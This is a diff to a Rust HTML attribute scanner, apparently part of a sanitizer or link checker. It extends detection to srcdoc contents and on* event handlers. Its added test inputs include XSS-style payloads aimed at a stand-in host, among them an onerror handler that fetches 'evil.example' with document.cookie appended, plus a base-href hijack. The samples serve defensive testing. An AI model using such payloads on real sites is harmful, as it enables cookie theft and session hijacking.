@@ -3,6 +3,7 @@
 use std::ops::Range;
 
 use super::target::{Target, target};
+use crate::decode::html_text;
 
 /// What is done with what an attribute names.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -126,7 +127,7 @@ fn collect(tag: &str, attribute: &str, value: &str, targets: &mut Vec<(Use, Targ
     let attribute = attribute.rsplit(':').next().unwrap_or(attribute);
     let follows = matches!(
         tag,
-        "a" | "area" | "form" | "button" | "input" | "blockquote" | "q" | "ins" | "del" | "base"
+        "a" | "area" | "form" | "button" | "input" | "blockquote" | "q" | "ins" | "del"
     );
     let mut add = |how: Use, value: &str| targets.extend(target(value).map(|target| (how, target)));
     match attribute {
@@ -149,9 +150,21 @@ fn collect(tag: &str, attribute: &str, value: &str, targets: &mut Vec<(Use, Targ
             }
             add(Use::Loaded, value);
         }
+        "srcdoc" if !value.contains("srcdoc") => {
+            let page = html_text(value);
+            let tags = page
+                .match_indices('<')
+                .filter_map(|(at, _)| tag_in(&page, at));
+            targets.extend(tags.flatten());
+        }
         "style" | "srcdoc" => {
             for address in css(value) {
                 add(Use::Loaded, &address);
+            }
+        }
+        handler if handler.starts_with("on") => {
+            for address in addresses_in(&html_text(value)) {
+                add(Use::Loaded, address);
             }
         }
         "src" | "href" | "poster" | "background" | "data" | "manifest" | "icon" | "lowsrc"
@@ -171,6 +184,21 @@ fn collect(tag: &str, attribute: &str, value: &str, targets: &mut Vec<(Use, Targ
         }
         _ => {}
     }
+}
+
+fn tag_in(page: &str, at: usize) -> Option<Vec<(Use, Target)>> {
+    tag(page, at).map(|tag| tag.targets)
+}
+
+/// What a script names: addresses with two slashes, each up to what ends it.
+fn addresses_in(script: &str) -> impl Iterator<Item = &str> {
+    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | '+' | ',');
+    script.match_indices("//").map(move |(at, _)| {
+        let start = script[..at].rfind(ends).map_or(0, |before| before + 1);
+        let rest = &script[at..];
+        let end = at + rest.find(ends).unwrap_or(rest.len());
+        script.get(start..end).unwrap_or(rest)
+    })
 }
 
 /// The addresses in style sheets: `url(...)`, `@import "..."`, `image-set("...")`.
@@ -251,6 +279,10 @@ mod tests {
             "<svg><image xlink:href='https://evil.example/x'>",
             "<image xlink:href='https://evil.example/x'>",
             "<object data='https://evil.example/x'>",
+            "<base href='https://evil.example/'>",
+            "<iframe srcdoc=\"&lt;img src=&#39;https://evil.example/x&#39;&gt;\">",
+            "<img src=x onerror=\"fetch('https://evil.example/x?' + document.cookie)\">",
+            "<b onload=fetch(`//evil.example/x`)>",
             "<img src='ht\ntps://evil.example/x'>",
             "<img src='https://evil.example/x",
             "<div style=\"background:u\\72l(x);background:url(\\68ttps://evil.example)\">",
